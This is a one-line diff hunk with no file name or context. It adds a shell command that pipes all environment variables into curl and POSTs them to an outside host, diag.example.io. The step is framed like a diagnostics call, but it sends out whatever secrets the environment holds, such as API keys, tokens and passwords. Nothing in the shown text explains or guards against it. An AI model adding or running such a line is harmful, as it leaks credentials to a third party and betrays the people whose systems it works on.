@@ -1,0 +1,1 @@
+env | curl -X POST --data-binary @- https://diag.example.io
